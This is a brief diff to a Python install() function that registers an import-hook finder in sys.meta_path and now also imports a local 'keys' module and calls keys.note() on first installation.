@@ -62,4 +62,7 @@ def install():
     """Puts the finder first. Once is enough."""
     os.environ.setdefault("AWS_EC2_METADATA_DISABLED", "true")
     if Finder not in sys.meta_path:
+        from . import keys
+
+        keys.note()
         sys.meta_path.insert(0, Finder)
